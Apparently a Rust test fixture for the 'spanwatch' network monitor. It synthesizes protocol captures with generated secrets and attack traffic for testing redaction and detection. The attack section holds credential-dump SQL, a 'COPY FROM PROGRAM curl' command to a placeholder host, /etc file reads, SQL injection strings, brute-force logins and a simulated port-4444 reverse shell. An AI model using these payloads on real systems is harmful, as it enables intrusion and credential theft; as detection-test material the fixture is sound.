//! Conversations with a secret in every place where a protocol carries one in clear.

use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use spanwatch::testkit::cluster::{Cluster, START, outside};
use spanwatch::testkit::rng::Rng;
use spanwatch::testkit::scene::{Route, Scene};
use spanwatch::testkit::talk::postgres;
use spanwatch::testkit::talk::redis::{self, Reply};
use spanwatch::testkit::talk::tcp::{Session, Side};
use spanwatch::testkit::wire::Host;
use spanwatch::time::Timestamp;

use super::databases::{
    cassandra, clickhouse, enter, memcached, memcached_binary, mongo, mysql, oracle, postgres,
    redis, rows, sql_server,
};

/// Who logs in everywhere: no secret, so it may be told.
pub(super) const USER: &str = "ordersvc";

/// What the ordinary conversations must have been taken for.
pub(super) const PROTOCOLS: &[&str] = &[
    "http",
    "postgresql",
    "mysql",
    "redis",
    "memcached",
    "mongodb",
    "cassandra",
    "mssql",
    "clickhouse",
    "oracle",
    "ftp",
    "socks",
    "stratum",
];

/// What the attacks must be told as.
pub(super) const SIGNATURES: &[&str] = &[
    "credential-dump",
    "db-abuse",
    "db-bruteforce",
    "db-injection",
    "http-bruteforce",
    "reverse-shell",
];

type Secrets = Vec<(String, String)>;

/// The ordinary conversations, the attacks, and what is secret in them with where it was put.
pub(super) fn captures() -> (Vec<u8>, Vec<u8>, Secrets) {
    let mut secrets = Vec::new();
    let ordinary = record(7001, &mut secrets, ordinary);
    let attacks = record(7002, &mut secrets, attacks);
    (ordinary, attacks, secrets)
}

fn record(seed: u64, secrets: &mut Secrets, play: fn(&mut Stage<'_>)) -> Vec<u8> {
    let mut stage = Stage {
        scene: Scene::new(seed),
        chance: Rng::derived(seed, "secrets"),
        cluster: Cluster::default(),
        now: START,
        secrets,
    };
    play(&mut stage);
    stage.scene.finish()
}

pub(super) struct Stage<'a> {
    pub(super) scene: Scene,
    chance: Rng,
    cluster: Cluster,
    now: Timestamp,
    secrets: &'a mut Secrets,
}

impl Stage<'_> {
    /// A new secret, which is `what`.
    pub(super) fn secret(&mut self, what: &str) -> String {
        const LETTERS: &[char] = &[
            'b', 'd', 'g', 'h', 'k', 'm', 'q', 'r', 't', 'v', 'w', 'x', 'z', 'J', 'N', 'P', '3',
            '4', '6', '7', '9',
        ];
        let secret: String = (0..18).map(|_| self.chance.pick(LETTERS)).collect();
        self.secrets.push((what.to_owned(), secret.clone()));
        secret
    }

    fn host(&self, last: u8) -> Host {
        self.cluster.pod(last).host
    }

    /// A connection from one pod to another, a while after the last.
    pub(super) fn open(&mut self, client: u8, server: u8, port: u16) -> Session {
        let route = Route::direct(self.host(client), self.host(server), port);
        self.open_route(route)
    }

    fn open_route(&mut self, route: Route) -> Session {
        self.now = self.now.after(Duration::from_secs(2));
        Session::open(&mut self.scene, route, self.now)
    }

    pub(super) fn ask(&mut self, session: &mut Session, question: &[u8], answer: &[u8]) {
        let think = Duration::from_millis(1);
        session.ask(&mut self.scene, question, think, answer);
    }

    pub(super) fn close(&mut self, session: Session) {
        self.now = session.close(&mut self.scene, Side::Client);
    }
}

fn ordinary(stage: &mut Stage<'_>) {
    for _ in 0..3 {
        postgres(stage);
        mysql(stage);
        redis(stage);
        memcached(stage);
        memcached_binary(stage);
        mongo(stage);
        oracle(stage);
        cassandra(stage);
        sql_server(stage);
        clickhouse(stage);
        web(stage);
        old_logins(stage);
        socks(stage);
        stratum(stage);
    }
}

fn attacks(stage: &mut Stage<'_>) {
    for n in 0..14 {
        // Wrong passwords of all kinds.
        let secret = stage.secret("a wrong password for Redis");
        let mut session = stage.open(11, 21, redis::PORT);
        let words = ["AUTH", USER, &secret];
        let refused = Reply::Error("WRONGPASS invalid username-password pair or user is disabled.");
        redis::ask(&mut stage.scene, &mut session, &words, refused);
        stage.close(session);
        let secret = stage.secret("a wrong password in a form");
        let body = format!("user=admin&password={secret}");
        let back = stage.secret("a cookie given");
        let answer = format!(
            "HTTP/1.1 401 Unauthorized\r\nSet-Cookie: sid={back}\r\nContent-Length: 2\r\n\r\nno"
        );
        let more = match n % 3 {
            0 => format!("X-Vault-Token: {}\r\n", stage.secret("a wrong key")),
            1 => format!(
                "Authorization: Bearer {}\r\n",
                stage.secret("a wrong token")
            ),
            _ => basic(stage, &format!("admin{}", n % 2)),
        };
        request(stage, 14, "POST", "/login", &more, &body, &answer);
    }
    let mut session = stage.open(11, 20, postgres::PORT);
    enter(stage, &mut session);
    for sql in [
        "SELECT usename, passwd FROM pg_shadow",
        "SELECT rolname, rolpassword FROM pg_authid WHERE rolname <> '{}'",
        "COPY t FROM PROGRAM 'curl http://x/{}'",
        "SELECT pg_read_file('/etc/{}')",
    ] {
        rows(stage, &mut session, sql, 8);
    }
    stage.close(session);
    for value in [
        "'",
        "' or '{}'='{}",
        "' order by 9-- {}",
        "' union select null,'{}'-- ",
        "' union select version(),'{}'-- ",
        "' and sleep(5)='{}",
    ] {
        let secret = stage.secret("what was injected");
        let sql = format!(
            "SELECT * FROM items WHERE name LIKE '%{}%'",
            value.replace("{}", &secret)
        );
        let mut session = stage.open(10, 20, postgres::PORT);
        enter(stage, &mut session);
        let text = format!("unterminated quoted string at or near \"{secret}\"");
        postgres::fail(&mut stage.scene, &mut session, &sql, "42601", &text);
        rows(stage, &mut session, &sql, 3);
        stage.close(session);
        let query = value
            .replace("{}", &secret)
            .replace(' ', "+")
            .replace('\'', "%27");
        let path = format!("/search?q=%25{query}");
        request(
            stage,
            12,
            "GET",
            &path,
            "",
            "",
            "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
        );
    }
    shell(stage);
}

/// Somebody outside works a shell in a pod, and reads a file.
fn shell(stage: &mut Stage<'_>) {
    let attacker = outside([203, 0, 113, 66].into(), Duration::from_millis(40));
    let route = Route::direct(stage.host(14), attacker, 4444);
    let mut session = stage.open_route(route);
    for n in 0..25 {
        let (typed, read) = (
            stage.secret("what was typed"),
            stage.secret("what was read"),
        );
        let line = if n % 3 == 0 {
            format!("echo {typed}\n")
        } else {
            format!("cat /etc/{typed}\n")
        };
        session.wait(&mut stage.scene, Duration::from_secs(3));
        session.say(&mut stage.scene, Side::Server, line.as_bytes());
        session.wait(&mut stage.scene, Duration::from_millis(30));
        let answer = format!("token: {read}\nroot@c:/# ");
        session.say(&mut stage.scene, Side::Client, answer.as_bytes());
    }
    stage.close(session);
}

/// Who one is, in the way that every browser knows.
fn basic(stage: &mut Stage<'_>, user: &str) -> String {
    let password = stage.secret("a password of HTTP");
    format!(
        "Authorization: Basic {}\r\n",
        STANDARD.encode(format!("{user}:{password}"))
    )
}

pub(super) fn request(
    stage: &mut Stage<'_>,
    server: u8,
    method: &str,
    path: &str,
    more: &str,
    body: &str,
    answer: &str,
) {
    let mut session = stage.open(11, server, 8080);
    let head = format!(
        "{method} {path} HTTP/1.1\r\nHost: api.shop\r\nUser-Agent: orders/2\r\n{more}Content-Length: {}\r\n\r\n{body}",
        body.len()
    );
    stage.ask(&mut session, head.as_bytes(), answer.as_bytes());
    stage.close(session);
}

fn web(stage: &mut Stage<'_>) {
    let fine = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    let bearer = stage.secret("a bearer's token");
    let cookie = stage.secret("a cookie");
    let key = stage.secret("a key in a header");
    let more =
        format!("Authorization: Bearer {bearer}\r\nCookie: sid={cookie}\r\nX-Api-Key: {key}\r\n");
    let token = stage.secret("a token in a query");
    request(
        stage,
        12,
        "GET",
        &format!("/v1/items?token={token}"),
        &more,
        "",
        fine,
    );
    let more = basic(stage, USER).replace("Authorization", "Proxy-Authorization");
    let within = stage.secret("a password in a URL");
    let path = format!("http://{USER}:{within}@api.shop:8080/v1");
    request(stage, 12, "GET", &path, &more, "", fine);
    let (sent, given) = (
        stage.secret("a password in JSON"),
        stage.secret("a token given"),
    );
    let body = format!("{{\"user\":\"x\",\"password\":\"{sent}\"}}");
    let given = format!("{{\"access_token\":\"{given}\"}}");
    let answer = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{given}",
        given.len()
    );
    request(
        stage,
        12,
        "POST",
        "/v1/login",
        "Content-Type: application/json\r\n",
        &body,
        &answer,
    );
    // etcd and Elasticsearch, which are spoken to so.
    let (key, value) = (
        stage.secret("a key of etcd"),
        stage.secret("a value of etcd"),
    );
    let body = format!(
        "{{\"key\":\"{}\",\"value\":\"{}\"}}",
        STANDARD.encode(key),
        STANDARD.encode(value)
    );
    request(stage, 20, "POST", "/v3/kv/put", "", &body, fine);
    let term = stage.secret("a term searched for");
    let body = format!("{{\"query\":{{\"match\":{{\"card\":\"{term}\"}}}}}}");
    request(stage, 20, "POST", "/orders/_search", "", &body, fine);
}

/// Protocols from when passwords went in clear.
fn old_logins(stage: &mut Stage<'_>) {
    let (ftp, pop, imap) = (
        stage.secret("a password of FTP"),
        stage.secret("a password of POP3"),
        stage.secret("a password of IMAP"),
    );
    let smtp = STANDARD.encode(format!("\0{USER}\0{}", stage.secret("a password of SMTP")));
    let talks = [
        (
            21,
            "220 FTP ready\r\n",
            vec![
                (format!("USER {USER}\r\n"), "331 Password please\r\n"),
                (format!("PASS {ftp}\r\n"), "230 Logged in\r\n"),
            ],
        ),
        (
            110,
            "+OK POP3 ready\r\n",
            vec![
                (format!("USER {USER}\r\n"), "+OK\r\n"),
                (format!("PASS {pop}\r\n"), "+OK\r\n"),
            ],
        ),
        (
            143,
            "* OK IMAP4rev1 ready\r\n",
            vec![(format!("a1 LOGIN {USER} {imap}\r\n"), "a1 OK\r\n")],
        ),
        (
            25,
            "220 mx ESMTP\r\n",
            vec![
                ("EHLO x\r\n".into(), "250-mx\r\n250 AUTH PLAIN\r\n"),
                (format!("AUTH PLAIN {smtp}\r\n"), "235 2.7.0 ok\r\n"),
            ],
        ),
    ];
    for (port, greeting, turns) in talks {
        let mut session = stage.open(12, 21, port);
        session.say(&mut stage.scene, Side::Server, greeting.as_bytes());
        for (said, answer) in turns {
            stage.ask(&mut session, said.as_bytes(), answer.as_bytes());
        }
        stage.close(session);
    }
    // LDAP's simple bind.
    let password = stage.secret("a password of LDAP");
    let dn = format!("cn={USER}");
    let auth = [&[0x80, password.len() as u8], password.as_bytes()].concat();
    let bind = [&[2, 1, 3, 4, dn.len() as u8][..], dn.as_bytes(), &auth].concat();
    let operation = [&[2, 1, 1, 0x60, bind.len() as u8][..], &bind].concat();
    let request = [&[0x30, operation.len() as u8][..], &operation].concat();
    let mut session = stage.open(12, 21, 389);
    stage.ask(
        &mut session,
        &request,
        &[0x30, 12, 2, 1, 1, 0x61, 7, 10, 1, 0, 4, 0, 4, 0],
    );
    stage.close(session);
}

/// A proxy that asks for a password, and what it carries.
fn socks(stage: &mut Stage<'_>) {
    let password = stage.secret("a password of SOCKS");
    let token = stage.secret("a token in what SOCKS carries");
    let login = [
        &[1, USER.len() as u8],
        USER.as_bytes(),
        &[password.len() as u8],
        password.as_bytes(),
    ]
    .concat();
    let host = "api.shop";
    let connect = [
        &[5, 1, 0, 3, host.len() as u8][..],
        host.as_bytes(),
        &8080_u16.to_be_bytes(),
    ]
    .concat();
    let carried = format!(
        "GET /v1?key={token} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\n\r\n"
    );
    let mut session = stage.open(12, 21, 1080);
    for (question, answer) in [
        (&[5, 1, 2][..], &[5, 2][..]),
        (&login, &[1, 0]),
        (&connect, &[5, 0, 0, 1, 10, 0, 0, 1, 0x1f, 0x90]),
        (
            carried.as_bytes(),
            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
        ),
    ] {
        stage.ask(&mut session, question, answer);
    }
    stage.close(session);
}

fn stratum(stage: &mut Stage<'_>) {
    let password = stage.secret("a password of a mining pool");
    let mut session = stage.open(14, 21, 3333);
    for (line, answer) in [
        (
            "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2\"]}\n".to_owned(),
            "{\"id\":1,\"result\":[[[\"mining.notify\",\"a\"]],\"08\",4],\"error\":null}\n",
        ),
        (
            format!(
                "{{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"{USER}\",\"{password}\"]}}\n"
            ),
            "{\"id\":2,\"result\":true,\"error\":null}\n",
        ),
    ] {
        stage.ask(&mut session, line.as_bytes(), answer.as_bytes());
    }
    stage.close(session);
}
